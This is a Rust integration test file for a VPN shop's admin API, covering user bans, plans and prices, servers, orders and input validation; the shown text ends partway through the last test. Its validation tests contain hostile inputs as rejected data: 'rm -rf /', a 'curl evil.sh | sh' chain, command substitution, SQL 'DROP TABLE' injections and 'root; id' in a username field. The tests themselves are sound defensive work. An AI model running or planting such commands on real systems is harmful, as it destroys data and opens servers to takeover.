//! Users, plans, servers and orders through the admin API: listings that filter and page, mutations that are
//! audited with their caller, refused for read-only keys, and bad input refused with the field named and
//! nothing written.

use std::time::{Duration, Instant};

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sqlx::PgPool;
use vpnshop::services::users::{self, TelegramUser};

use super::{Api, api, api_with, assert_problem};
use crate::bot::{SECRET, bot_settings, next_id};
use crate::support::{FakeTelegram, TgUser, command_update};

/// A customer met by the bot; returns their id.
async fn customer(api: &Api, telegram_id: i64, username: Option<&str>, language: &str) -> i64 {
    let who = TelegramUser { telegram_id, username, first_name: Some("Test"), language_code: Some(language) };
    users::touch(&api.app.state.pool, &who, &api.app.state.settings).await.unwrap().id
}

async fn key_id(api: &Api, name: &str) -> String {
    let id: i64 = sqlx::query_scalar("SELECT id FROM api_keys WHERE name = $1")
        .bind(name)
        .fetch_one(&api.app.state.pool)
        .await
        .unwrap();
    id.to_string()
}

fn ids(items: &[Value]) -> Vec<i64> {
    items.iter().map(|i| i["id"].as_i64().unwrap()).collect()
}

/// Rows of the tables these routes write, for "nothing written".
async fn snapshot(api: &Api) -> Vec<i64> {
    let mut counts = Vec::new();
    for table in ["users WHERE banned_at IS NOT NULL", "plans", "plan_prices", "servers", "audit_log"] {
        counts.push(api.count(table).await);
    }
    let updated: i64 = sqlx::query_scalar("SELECT count(*) FROM plans WHERE source = 'api'")
        .fetch_one(&api.app.state.pool)
        .await
        .unwrap();
    counts.push(updated);
    counts
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn users_are_searched_by_telegram_id_or_username_filtered_and_paged(pool: PgPool) {
    let api = api(pool).await;
    let alice = customer(&api, 1001, Some("Alice_K"), "en").await;
    let alina = customer(&api, 1002, Some("alina"), "fa").await;
    let bob = customer(&api, 2001, Some("bob"), "ru").await;
    let anon = customer(&api, 3001, None, "fa").await;
    let mut all = Vec::new();
    for i in 0..5 {
        all.push(customer(&api, 4000 + i, Some(&format!("user{i}")), "en").await);
    }
    all.extend([alice, alina, bob, anon]);
    all.sort_unstable_by(|a, b| b.cmp(a));

    let walked = api.walk("/api/v1/users", 2).await;
    assert_eq!(ids(&walked), all, "newest first, every customer once over pages of 2");
    let asc = api.walk("/api/v1/users?order=asc", 3).await;
    assert_eq!(ids(&asc), all.iter().rev().copied().collect::<Vec<_>>());

    for (q, want) in [
        ("1001", vec![alice]),
        ("@Alice_K", vec![alice]),
        ("@ALI", vec![alina, alice]),
        ("ali", vec![alina, alice]),
        ("alice_", vec![alice]),
        ("bo", vec![bob]),
        ("nobody", vec![]),
        ("9999", vec![]),
    ] {
        let page = api.get(&format!("/api/v1/users?q={}", urlencoding(q))).await;
        assert_eq!(page.status, StatusCode::OK, "{q}: {page:?}");
        assert_eq!(ids(page.body["items"].as_array().unwrap()), want, "q={q}");
    }
    let fa = api.walk("/api/v1/users?language=fa", 1).await;
    assert_eq!(ids(&fa), vec![anon, alina]);
    let fa_ali = api.get("/api/v1/users?language=fa&q=ali").await;
    assert_eq!(ids(fa_ali.body["items"].as_array().unwrap()), vec![alina], "filters combine");

    let banned = api.post(&format!("/api/v1/users/{bob}/ban"), json!({"reason": "chargebacks"})).await;
    assert_eq!(banned.status, StatusCode::OK, "{banned:?}");
    assert_eq!(ids(&api.walk("/api/v1/users?banned=true", 10).await), vec![bob]);
    assert!(!ids(&api.walk("/api/v1/users?banned=false", 10).await).contains(&bob));

    let one = api.get(&format!("/api/v1/users/{alice}")).await;
    assert_eq!(one.status, StatusCode::OK, "{one:?}");
    assert_eq!(one.body["telegram_id"], 1001);
    assert_eq!(one.body["username"], "Alice_K");
    assert_eq!((one.body["orders"].as_i64(), one.body["payments"].as_i64()), (Some(0), Some(0)));
    assert_eq!(one.body["active_subscriptions"], 0);
    assert_problem(&api.get("/api/v1/users/999999").await, 404, None);
}

fn urlencoding(q: &str) -> String {
    form_urlencoded::byte_serialize(q.as_bytes()).collect()
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn a_ban_is_audited_with_its_key_idempotent_and_the_bot_then_refuses_the_customer(pool: PgPool) {
    let tg = FakeTelegram::start().await;
    let api = api_with(pool, |s| bot_settings(s, &tg)).await;
    let u = TgUser { username: Some("mallory".into()), ..TgUser::new(77, "Mallory") };
    deliver(&api, &command_update(next_id(), &u, "/start")).await;
    let id: i64 =
        sqlx::query_scalar("SELECT id FROM users WHERE telegram_id = 77").fetch_one(&api.app.state.pool).await.unwrap();

    let ban = api.post(&format!("/api/v1/users/{id}/ban"), json!({"reason": "fraud"})).await;
    assert_eq!(ban.status, StatusCode::OK, "{ban:?}");
    assert!(ban.body["banned_at"].is_string());
    assert_eq!(ban.body["ban_reason"], "fraud");
    let again = api.post(&format!("/api/v1/users/{id}/ban"), json!({"reason": "fraud, again"})).await;
    assert_eq!(again.status, StatusCode::OK);
    assert_eq!(again.body["ban_reason"], "fraud", "banning a banned customer changes nothing");
    let writer = key_id(&api, "tests (write)").await;
    assert_eq!(api.audited("user.ban").await, vec![("api_key".to_owned(), Some(writer.clone()))], "audited once");

    tg.clear();
    deliver(&api, &command_update(next_id(), &u, "/buy")).await;
    deliver(&api, &command_update(next_id(), &u, "/start")).await;
    let sent = tg.calls_of("sendMessage");
    assert_eq!(sent.len(), 1, "one notice, nothing else: {sent:?}");
    assert!(sent[0].params["text"].as_str().unwrap().contains("blocked"), "{sent:?}");

    let unban = api.post(&format!("/api/v1/users/{id}/unban"), json!({})).await;
    assert_eq!(unban.status, StatusCode::OK, "{unban:?}");
    assert!(unban.body["banned_at"].is_null() && unban.body["ban_reason"].is_null());
    assert_eq!(api.post(&format!("/api/v1/users/{id}/unban"), json!({})).await.status, StatusCode::OK);
    assert_eq!(api.audited("user.unban").await, vec![("api_key".to_owned(), Some(writer))]);
    tg.clear();
    deliver(&api, &command_update(next_id(), &u, "/start")).await;
    let sent = tg.calls_of("sendMessage");
    assert!(
        sent.iter().all(|c| !c.params["text"].as_str().unwrap_or("").contains("blocked")),
        "served again: {sent:?}"
    );
    assert!(!sent.is_empty());

    let missing = api.post("/api/v1/users/999999/ban", json!({"reason": "x"})).await;
    assert_problem(&missing, 404, None);
    let blank = api.post(&format!("/api/v1/users/{id}/ban"), json!({"reason": "  "})).await;
    assert_problem(&blank, 422, Some("reason"));
}

/// Delivers an update through the webhook and waits until the app has handled it.
async fn deliver(api: &Api, update: &Value) {
    let res = api
        .app
        .http
        .post(api.app.url("/telegram/webhook"))
        .header("x-telegram-bot-api-secret-token", SECRET)
        .json(update)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let id = update["update_id"].as_i64().unwrap();
    let start = Instant::now();
    loop {
        let handled: Option<bool> =
            sqlx::query_scalar("SELECT handled_at IS NOT NULL FROM telegram_updates WHERE update_id = $1")
                .bind(id)
                .fetch_optional(&api.app.state.pool)
                .await
                .unwrap();
        if handled == Some(true) {
            return;
        }
        assert!(start.elapsed() < Duration::from_secs(15), "update {id} was not handled");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

fn new_plan() -> Value {
    json!({
        "location": "de", "duration_days": 45, "seats": 3, "data_cap_bytes": 53_687_091_200_i64, "sort_order": 7,
        "prices": [{"currency": "USD", "amount_minor": 999}, {"currency": "EUR", "amount_minor": 899}]
    })
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn a_plan_is_created_changed_listed_delisted_and_priced(pool: PgPool) {
    let api = api(pool).await;
    let made = api.post("/api/v1/plans", new_plan()).await;
    assert_eq!(made.status, StatusCode::CREATED, "{made:?}");
    let id = made.body["id"].as_i64().unwrap();
    assert_eq!(made.body["code"], "de-45d-3dev-50gb");
    assert_eq!(made.body["source"], "api");
    assert_eq!(made.body["active"], true);
    assert_eq!(
        made.body["prices"],
        json!([{"currency": "EUR", "amount_minor": 899}, {"currency": "USD", "amount_minor": 999}])
    );
    assert_problem(&api.post("/api/v1/plans", new_plan()).await, 409, None);

    let got = api.get(&format!("/api/v1/plans/{id}")).await;
    assert_eq!(got.body["prices"], made.body["prices"]);
    let de = api.walk("/api/v1/plans?location=de&active=true&trial=false", 50).await;
    assert!(ids(&de).contains(&id));
    assert!(de.iter().all(|p| p["location"] == "de" && p["active"] == true));
    assert!(!ids(&api.walk("/api/v1/plans?location=nl", 50).await).contains(&id));

    let patched = api.patch(&format!("/api/v1/plans/{id}"), json!({"duration_days": 60, "sort_order": 3})).await;
    assert_eq!(patched.status, StatusCode::OK, "{patched:?}");
    assert_eq!(
        (patched.body["duration_days"].as_i64(), patched.body["code"].as_str()),
        (Some(60), Some("de-60d-3dev-50gb"))
    );
    let unlimited = api.patch(&format!("/api/v1/plans/{id}"), json!({"data_cap_bytes": null})).await;
    assert_eq!(unlimited.body["data_cap_bytes"], Value::Null, "{unlimited:?}");
    assert_eq!(unlimited.body["duration_days"], 60, "absent fields stay");

    let off = api.post(&format!("/api/v1/plans/{id}/deactivate"), json!({})).await;
    assert_eq!(off.body["active"], false, "{off:?}");
    assert!(!ids(&api.walk("/api/v1/plans?active=true", 200).await).contains(&id));
    let on = api.post(&format!("/api/v1/plans/{id}/activate"), json!({})).await;
    assert_eq!(on.body["active"], true);

    let irr = api
        .call(
            Method::PUT,
            &format!("/api/v1/plans/{id}/prices/IRR"),
            Some(&api.write_key),
            Some(json!({"amount_minor": 5_000_000})),
        )
        .await;
    assert_eq!(irr.status, StatusCode::OK, "{irr:?}");
    let usd = api
        .call(
            Method::PUT,
            &format!("/api/v1/plans/{id}/prices/usd"),
            Some(&api.write_key),
            Some(json!({"amount_minor": 1099})),
        )
        .await;
    assert_eq!(usd.status, StatusCode::OK, "{usd:?}");
    let gone = api.delete(&format!("/api/v1/plans/{id}/prices/EUR")).await;
    assert_eq!(
        gone.body["prices"],
        json!([{"currency": "IRR", "amount_minor": 5_000_000}, {"currency": "USD", "amount_minor": 1099}])
    );
    assert_problem(&api.delete(&format!("/api/v1/plans/{id}/prices/EUR")).await, 404, None);

    let writer = Some(key_id(&api, "tests (write)").await);
    for action in ["plan.create", "plan.update", "plan.deactivate", "plan.activate", "plan.price_delete"] {
        let audited = api.audited(action).await;
        assert!(
            !audited.is_empty() && audited.iter().all(|(k, i)| k == "api_key" && *i == writer),
            "{action}: {audited:?}"
        );
    }
    assert_eq!(api.audited("plan.price_set").await.len(), 2);
    assert_eq!(api.audited("plan.update").await.len(), 2);
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn plans_changed_through_the_api_survive_a_catalogue_seed_and_orders_keep_their_price(pool: PgPool) {
    let api = api(pool).await;
    let pool = &api.app.state.pool;
    let made = api.post("/api/v1/plans", new_plan()).await;
    let mine = made.body["id"].as_i64().unwrap();
    let seeded: i64 =
        sqlx::query_scalar("SELECT id FROM plans WHERE source = 'catalog' AND active ORDER BY id LIMIT 1")
            .fetch_one(pool)
            .await
            .unwrap();
    let user = customer(&api, 555, Some("buyer"), "en").await;
    let order: i64 = sqlx::query_scalar(
        "INSERT INTO orders (user_id, plan_id, amount_minor, currency, status) VALUES ($1, $2, 500, 'USD', 'awaiting_payment')
         RETURNING id",
    )
    .bind(user)
    .bind(seeded)
    .fetch_one(pool)
    .await
    .unwrap();
    assert_eq!(api.post(&format!("/api/v1/plans/{seeded}/deactivate"), json!({})).await.status, StatusCode::OK);
    let put = api
        .call(
            Method::PUT,
            &format!("/api/v1/plans/{seeded}/prices/USD"),
            Some(&api.write_key),
            Some(json!({"amount_minor": 777})),
        )
        .await;
    assert_eq!(put.status, StatusCode::OK, "{put:?}");
    let reshape = api.patch(&format!("/api/v1/plans/{seeded}"), json!({"seats": 9})).await;
    assert_problem(&reshape, 409, None);

    let catalog =
        vpnshop::services::catalog::Catalog::load(&crate::helpers::manifest_dir().join("config/plans.toml")).unwrap();
    vpnshop::services::catalog::seed(pool, &catalog).await.unwrap();
    let after = api.get(&format!("/api/v1/plans/{seeded}")).await;
    assert_eq!(after.body["active"], false, "the seeder did not relist what the API took off sale");
    assert!(after.body["prices"].as_array().unwrap().contains(&json!({"currency": "USD", "amount_minor": 777})));
    assert_eq!(api.get(&format!("/api/v1/plans/{mine}")).await.body["active"], true, "nor retire the API's own plan");
    let o = api.get(&format!("/api/v1/orders/{order}")).await;
    assert_eq!((o.body["amount_minor"].as_i64(), o.body["currency"].as_str()), (Some(500), Some("USD")), "{o:?}");
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn bad_input_is_refused_naming_the_field_and_nothing_is_written(pool: PgPool) {
    let api = api(pool).await;
    let user = customer(&api, 4242, Some("carol"), "en").await;
    let plan = api.get("/api/v1/plans?limit=1").await.body["items"][0]["id"].as_i64().unwrap();
    let before = snapshot(&api).await;
    let with = |patch: Value| {
        let mut body = new_plan();
        for (k, v) in patch.as_object().unwrap() {
            body[k] = v.clone();
        }
        body
    };
    let cases: Vec<(Value, u16, &str)> = vec![
        (with(json!({"prices": [{"currency": "USD", "amount_minor": -100}]})), 422, "prices[0].amount_minor"),
        (
            with(json!({"prices": [{"currency": "EUR", "amount_minor": 5}, {"currency": "USD", "amount_minor": 0}]})),
            422,
            "prices[1].amount_minor",
        ),
        (with(json!({"prices": [{"currency": "XYZ", "amount_minor": 100}]})), 422, "prices[0].currency"),
        (with(json!({"prices": [{"currency": "USD", "amount_minor": "9.99"}]})), 422, "prices[0].amount_minor"),
        (
            with(json!({"prices": [{"currency": "USD", "amount_minor": 1}, {"currency": "USD", "amount_minor": 2}]})),
            422,
            "prices[1].currency",
        ),
        (with(json!({"prices": []})), 422, "prices"),
        (with(json!({"duration_days": "thirty"})), 422, "duration_days"),
        (with(json!({"duration_days": 0})), 422, "duration_days"),
        (with(json!({"seats": 1000})), 422, "seats"),
        (with(json!({"data_cap_bytes": -1})), 422, "data_cap_bytes"),
        (with(json!({"data_cap_bytes": 1_i64 << 51})), 422, "data_cap_bytes"),
        (with(json!({"location": "mars"})), 422, "location"),
        (with(json!({"location": "de'; DROP TABLE plans; --"})), 422, "location"),
        (with(json!({"colour": "red"})), 422, "colour"),
        (with(json!({"prices": [{"currency": "USD", "amount_minor": 1, "tax": 0}]})), 422, "prices[0].tax"),
    ];
    for (body, status, field) in cases {
        let a = api.post("/api/v1/plans", body.clone()).await;
        assert_problem(&a, status, Some(field));
    }
    let api = &api;
    let put = |currency: &str, body: Value| {
        let path = format!("/api/v1/plans/{plan}/prices/{currency}");
        async move { api.call(Method::PUT, &path, Some(&api.write_key), Some(body)).await }
    };
    assert_problem(&put("USD", json!({"amount_minor": -5})).await, 422, Some("amount_minor"));
    assert_problem(&put("USD", json!({"amount_minor": 0})).await, 422, Some("amount_minor"));
    assert_problem(&put("XYZ", json!({"amount_minor": 5})).await, 422, Some("currency"));
    assert_problem(&put("USD", json!({"amount": 5})).await, 422, Some("amount"));
    assert_problem(&api.patch(&format!("/api/v1/plans/{plan}"), json!({"seats": "two"})).await, 422, Some("seats"));
    assert_problem(&api.patch(&format!("/api/v1/plans/{plan}"), json!({"price": 1})).await, 422, Some("price"));
    assert_problem(
        &api.post(&format!("/api/v1/users/{user}/ban"), json!({"reason": "x", "until": "never"})).await,
        422,
        Some("until"),
    );
    assert_problem(&api.post(&format!("/api/v1/users/{user}/ban"), json!({})).await, 422, Some("reason"));
    let not_json = api
        .app
        .http
        .post(api.app.url("/api/v1/plans"))
        .bearer_auth(&api.write_key)
        .header("content-type", "application/json")
        .body("{\"location\": ")
        .send()
        .await
        .unwrap();
    assert_eq!(not_json.status(), 400);

    for (query, status, field) in [
        ("/api/v1/users?limit=1000", 422, "limit"),
        ("/api/v1/users?limit=0", 422, "limit"),
        ("/api/v1/users?limit=many", 400, "limit"),
        ("/api/v1/users?cursor=not-a-cursor", 422, "cursor"),
        ("/api/v1/users?q=%27%3B%20DROP%20TABLE%20users%3B%20--", 422, "q"),
        ("/api/v1/users?q=a%25", 422, "q"),
        ("/api/v1/users?q=99999999999999999999999", 422, "q"),
        ("/api/v1/users?banned=maybe", 400, "banned"),
        ("/api/v1/users?language=de", 400, "language"),
        ("/api/v1/users?sort=name", 400, "sort"),
        ("/api/v1/plans?limit=201", 422, "limit"),
        ("/api/v1/servers?cursor=YzEuMS4y%21", 422, "cursor"),
        ("/api/v1/orders?status=lost", 400, "status"),
        ("/api/v1/orders?kind=gift", 422, "kind"),
        ("/api/v1/orders?user_id=abc", 400, "user_id"),
        ("/api/v1/orders?created_from=yesterday", 400, "created_from"),
        ("/api/v1/orders?created_from=2030-01-02T00:00:00Z&created_to=2030-01-01T00:00:00Z", 422, "created_to"),
    ] {
        assert_problem(&api.get(query).await, status, Some(field));
    }
    assert_eq!(snapshot(api).await, before, "nothing written");
    assert_eq!(api.count("users").await, 1, "no customer appeared or vanished");
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn a_read_key_may_read_but_not_change_anything(pool: PgPool) {
    let api = api(pool).await;
    let user = customer(&api, 31, Some("dave"), "en").await;
    let plan = api.get("/api/v1/plans?limit=1").await.body["items"][0]["id"].as_i64().unwrap();
    let server = api.post("/api/v1/servers", server_body("de-9")).await;
    assert_eq!(server.status, StatusCode::CREATED, "{server:?}");
    let server = server.body["id"].as_i64().unwrap();
    let before = snapshot(&api).await;
    let read = api.read_key.clone();
    let calls: Vec<(Method, String, Option<Value>)> = vec![
        (Method::POST, format!("/api/v1/users/{user}/ban"), Some(json!({"reason": "x"}))),
        (Method::POST, format!("/api/v1/users/{user}/unban"), Some(json!({}))),
        (Method::POST, "/api/v1/plans".into(), Some(new_plan())),
        (Method::PATCH, format!("/api/v1/plans/{plan}"), Some(json!({"sort_order": 1}))),
        (Method::POST, format!("/api/v1/plans/{plan}/activate"), None),
        (Method::POST, format!("/api/v1/plans/{plan}/deactivate"), None),
        (Method::PUT, format!("/api/v1/plans/{plan}/prices/USD"), Some(json!({"amount_minor": 1}))),
        (Method::DELETE, format!("/api/v1/plans/{plan}/prices/USD"), None),
        (Method::POST, "/api/v1/servers".into(), Some(server_body("de-10"))),
        (Method::PATCH, format!("/api/v1/servers/{server}"), Some(json!({"capacity": 1}))),
        (Method::POST, format!("/api/v1/servers/{server}/enable"), None),
        (Method::POST, format!("/api/v1/servers/{server}/disable"), None),
        (Method::DELETE, format!("/api/v1/servers/{server}"), None),
        (Method::POST, format!("/api/v1/servers/{server}/test"), None),
    ];
    for (method, path, body) in calls {
        let a = api.call(method.clone(), &path, Some(&read), body).await;
        assert_problem(&a, 403, None);
    }
    assert_eq!(snapshot(&api).await, before, "nothing written");
    for path in [
        format!("/api/v1/users/{user}"),
        "/api/v1/users".into(),
        format!("/api/v1/plans/{plan}"),
        format!("/api/v1/servers/{server}"),
        "/api/v1/orders".into(),
    ] {
        assert_eq!(api.call(Method::GET, &path, Some(&read), None).await.status, StatusCode::OK, "{path}");
    }
}

fn server_body(name: &str) -> Value {
    json!({
        "name": name, "location": "de", "public_host": format!("{name}.example.com"), "capacity": 50,
        "host_key": "SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8",
        "restart_command": "sudo -n systemctl restart v2ray"
    })
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn servers_are_registered_changed_enabled_disabled_and_deleted_with_only_safe_restart_commands(pool: PgPool) {
    let api = api(pool).await;
    let made = api.post("/api/v1/servers", server_body("de-1")).await;
    assert_eq!(made.status, StatusCode::CREATED, "{made:?}");
    let id = made.body["id"].as_i64().unwrap();
    assert_eq!(made.body["restart_command"], "sudo -n systemctl restart v2ray");
    assert_eq!((made.body["capacity"].as_i64(), made.body["active_clients"].as_i64()), (Some(50), Some(0)));
    assert_eq!(made.body["health"], "unknown");
    assert_problem(&api.post("/api/v1/servers", server_body("de-1")).await, 409, None);

    let before = snapshot(&api).await;
    let bad_commands = [
        json!("rm -rf /"),
        json!("systemctl restart v2ray; reboot"),
        json!("systemctl restart v2ray && curl evil.sh | sh"),
        json!("systemctl restart $(reboot)"),
        json!("systemctl restart -v2ray"),
        json!("systemctl  restart v2ray"),
        json!("systemctl restart v2ray\nreboot"),
        json!("systemctl stop v2ray"),
        json!(""),
        json!(42),
    ];
    for cmd in &bad_commands {
        let mut body = server_body("de-2");
        body["restart_command"] = cmd.clone();
        assert_problem(&api.post("/api/v1/servers", body).await, 422, Some("restart_command"));
        let patch = api.patch(&format!("/api/v1/servers/{id}"), json!({"restart_command": cmd})).await;
        assert_problem(&patch, 422, Some("restart_command"));
    }
    for (patch, field) in [
        (json!({"name": "Bad Name"}), "name"),
        (json!({"public_port": 0}), "public_port"),
        (json!({"public_port": 70000}), "public_port"),
        (json!({"public_host": "not a host"}), "public_host"),
        (json!({"capacity": 0}), "capacity"),
        (json!({"ssh_user": "root; id"}), "ssh_user"),
        (json!({"location": "nl"}), "location"),
        (json!({"capacity": "lots"}), "capacity"),
    ] {
        assert_problem(&api.patch(&format!("/api/v1/servers/{id}"), patch.clone()).await, 422, Some(field));
        let mut body = server_body("de-3");
        body[field] = patch[field].clone();
        if field != "location" {
            assert_problem(&api.post("/api/v1/servers", body).await, 422, Some(field));
        }
    }
    let mut mars = server_body("de-4");
    mars["location"] = json!("mars");
    assert_problem(&api.post("/api/v1/servers", mars).await, 422, Some("location"));
    assert_eq!(snapshot(&api).await, before, "nothing written");

    let patched = api
        .patch(
            &format!("/api/v1/servers/{id}"),
            json!({"capacity": 80, "restart_command": "systemctl restart xray@main.service"}),
        )
        .await;
    assert_eq!(patched.status, StatusCode::OK, "{patched:?}");
    assert_eq!(patched.body["capacity"], 80);
    assert_eq!(patched.body["restart_command"], "systemctl restart xray@main.service");
    assert_eq!(patched.body["name"], "de-1", "absent fields stay");
    let default = api.patch(&format!("/api/v1/servers/{id}"), json!({"restart_command": null})).await;
    assert_eq!(default.body["restart_command"], Value::Null, "back to the core's default");

    let off = api.post(&format!("/api/v1/servers/{id}/disable"), json!({})).await;
    assert_eq!(off.body["enabled"], false, "{off:?}");
    assert_eq!(api.post(&format!("/api/v1/servers/{id}/disable"), json!({})).await.status, StatusCode::OK);
    assert_eq!(ids(&api.walk("/api/v1/servers?enabled=false&location=de", 10).await), vec![id]);
    assert!(api.walk("/api/v1/servers?enabled=true", 10).await.is_empty());
    let on = api.post(&format!("/api/v1/servers/{id}/enable"), json!({})).await;
    assert_eq!(on.body["enabled"], true);
    let writer = Some(key_id(&api, "tests (write)").await);
    for (action, n) in [("server.add", 1), ("server.update", 2), ("server.disable", 1), ("server.enable", 1)] {
        let audited = api.audited(action).await;
        assert_eq!(audited.len(), n, "{action}: {audited:?}");
        assert!(audited.iter().all(|(k, i)| k == "api_key" && *i == writer), "{action}: {audited:?}");
    }

    assert_eq!(api.delete(&format!("/api/v1/servers/{id}")).await.status, StatusCode::NO_CONTENT);
    assert_eq!(api.audited("server.remove").await.len(), 1);
    assert_problem(&api.delete(&format!("/api/v1/servers/{id}")).await, 404, None);
    assert_problem(&api.get(&format!("/api/v1/servers/{id}")).await, 404, None);
}

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn testing_an_unreachable_node_answers_at_once_with_ok_false_and_the_failed_check(pool: PgPool) {
    let keys = tempfile::tempdir().unwrap();
    let key = keys.path().join("id_ed25519");
    let made = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "vpnshop-test", "-f"])
        .arg(&key)
        .status()
        .unwrap();
    assert!(made.success());
    let api = api_with(pool, |s| s.provision.ssh_key_path = Some(key)).await;
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let mut body = server_body("de-1");
    body["ssh_host"] = json!("127.0.0.1");
    body["ssh_port"] = json!(port);
    let id = api.post("/api/v1/servers", body).await.body["id"].as_i64().unwrap();
    let started = Instant::now();
    let report = api.post(&format!("/api/v1/servers/{id}/test"), json!({})).await;
    assert!(started.elapsed() < Duration::from_secs(5), "took {:?}", started.elapsed());
    assert_eq!(report.status, StatusCode::OK, "{report:?}");
    assert_eq!(report.body["ok"], false);
    let checks = report.body["checks"].as_array().unwrap();
    assert_eq!(checks[0]["name"], "reach sshd");
    assert_eq!(checks[0]["outcome"], "failed");
    assert!(checks[0]["detail"].as_str().unwrap().contains(&format!("127.0.0.1:{port}")), "{report:?}");
    assert!(checks[1..].iter().all(|c| c["outcome"] == "skipped"), "{report:?}");
    assert!(report.body["elapsed_ms"].as_u64().is_some());
    assert_problem(&api.post("/api/v1/servers/999999/test", json!({})).await, 404, None);
}

/// An order made here: id, user, status, plan.
type Made<'a> = (i64, i64, &'a str, i64);

#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn orders_are_listed_by_status_user_plan_kind_and_time_and_shown_with_payments(pool: PgPool) {
    let api = api(pool).await;
    let pool = &api.app.state.pool;
    let (ann, ben) = (customer(&api, 61, Some("ann"), "en").await, customer(&api, 62, Some("ben"), "en").await);
    let plans: Vec<i64> = sqlx::query_scalar("SELECT id FROM plans WHERE NOT is_trial ORDER BY id LIMIT 2")
        .fetch_all(pool)
        .await
        .unwrap();
    let mut made = Vec::new();
    for (i, (user, status)) in [
        (ann, "awaiting_payment"),
        (ann, "cancelled"),
        (ben, "awaiting_payment"),
        (ann, "awaiting_payment"),
        (ben, "expired"),
        (ann, "awaiting_payment"),
    ]
    .into_iter()
    .enumerate()
    {
        let id: i64 = sqlx::query_scalar(
            "INSERT INTO orders (user_id, plan_id, amount_minor, currency, status, created_at)
             VALUES ($1, $2, 500, 'USD', $3, now() - make_interval(hours => $4)) RETURNING id",
        )
        .bind(user)
        .bind(plans[i % 2])
        .bind(status)
        .bind(10 - i as i32)
        .fetch_one(pool)
        .await
        .unwrap();
        made.push((id, user, status, plans[i % 2]));
    }
    let newest_first =
        |f: &dyn Fn(&Made) -> bool| -> Vec<i64> { made.iter().rev().filter(|o| f(o)).map(|o| o.0).collect() };
    assert_eq!(ids(&api.walk("/api/v1/orders", 2).await), newest_first(&|_| true));
    let ann_waiting = api.walk(&format!("/api/v1/orders?status=awaiting_payment&user_id={ann}"), 1).await;
    assert_eq!(ids(&ann_waiting), newest_first(&|o| o.1 == ann && o.2 == "awaiting_payment"));
    assert_eq!(ids(&api.walk("/api/v1/orders?status=expired", 5).await), newest_first(&|o| o.2 == "expired"));
    let by_plan = api.walk(&format!("/api/v1/orders?plan_id={}&kind=new&order=asc", plans[1]), 2).await;
    let mut want = newest_first(&|o| o.3 == plans[1]);
    want.reverse();
    assert_eq!(ids(&by_plan), want);
    let since = (chrono::Utc::now() - chrono::Duration::minutes(7 * 60 + 30))
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    let late = api.walk(&format!("/api/v1/orders?created_from={since}"), 10).await;
    assert_eq!(ids(&late), made[3..].iter().rev().map(|o| o.0).collect::<Vec<_>>());

    let (order, ..) = made[0];
    sqlx::query("INSERT INTO payments (order_id, method, status, amount_minor, currency) VALUES ($1, 'card', 'pending', 500, 'USD')")
        .bind(order)
        .execute(pool)
        .await
        .unwrap();
    let one = api.get(&format!("/api/v1/orders/{order}")).await;
    assert_eq!(one.status, StatusCode::OK, "{one:?}");
    assert_eq!(one.body["user_id"], ann);
    assert_eq!(one.body["status"], "awaiting_payment");
    let payments = one.body["payments"].as_array().unwrap();
    assert_eq!(payments.len(), 1, "{one:?}");
    assert_eq!((payments[0]["method"].as_str(), payments[0]["amount_minor"].as_i64()), (Some("card"), Some(500)));
    assert_problem(&api.get("/api/v1/orders/999999").await, 404, None);
}

/// A node's inbounds through the API: given at registration, replaced with `PUT …/inbounds` (audited, a sync
/// asked for), and every bad set refused as a problem naming the field, with nothing written.
#[sqlx::test(migrator = "vpnshop::db::MIGRATOR")]
async fn a_nodes_inbounds_are_set_replaced_and_bad_ones_refused_with_the_field(pool: PgPool) {
    let api = api(pool).await;
    let tls = json!({"cert_path": "/etc/v2ray/tls/fullchain.pem", "key_path": "/etc/v2ray/tls/privkey.pem"});
    let with_tls = |mut inbound: Value| {
        for (k, v) in tls.as_object().unwrap() {
            inbound[k] = v.clone();
        }
        inbound
    };
    let mut body = server_body("de-1");
    body["inbounds"] = json!([
        {"tag": "vmess", "protocol": "vmess", "port": 8443},
        with_tls(json!({"tag": "ws", "protocol": "vless", "transport": "ws", "security": "tls", "port": 443,
                        "path": "/ws", "sni": "de1.example.com"})),
    ]);
    let made = api.post("/api/v1/servers", body).await;
    assert_eq!(made.status, StatusCode::CREATED, "{made:?}");
    let id = made.body["id"].as_i64().unwrap();
    assert_eq!(made.body["inbounds"][1]["transport"], "ws", "{made:?}");
    assert_eq!(made.body["inbound_tag"], "vmess", "the legacy columns follow the first inbound");
    assert_eq!(made.body["public_port"], 8443);
    // with several inbounds each has its own port: the node-wide public port cannot say which
    let patched = api.patch(&format!("/api/v1/servers/{id}"), json!({"public_port": 9443})).await;
    assert_problem(&patched, 422, Some("public_port"));

    let path = format!("/api/v1/servers/{id}/inbounds");
    let put = |body: Value| api.call(Method::PUT, &path, Some(&api.write_key), Some(body));
    let cdn = with_tls(json!({"tag": "cdn", "protocol": "vless", "transport": "ws", "security": "tls", "port": 2053,
                              "cdn": true, "public_host": "cdn.example.com", "public_port": 443}));
    let done = put(json!({"inbounds": [cdn]})).await;
    assert_eq!(done.status, StatusCode::OK, "{done:?}");
    assert_eq!(done.body["inbounds"].as_array().map(Vec::len), Some(1));
    assert_eq!(done.body["inbounds"][0]["public_host"], "cdn.example.com");
    assert_eq!(api.audited("server.inbounds").await.len(), 1);
    assert_eq!(api.count("jobs WHERE kind = 'node.reconcile'").await, 1, "a sync is asked for");

    let before = snapshot(&api).await;
    let many: Vec<Value> =
        (0..17).map(|i| json!({"tag": format!("t{i}"), "protocol": "vmess", "port": 1000 + i})).collect();
    for (body, status, field) in [
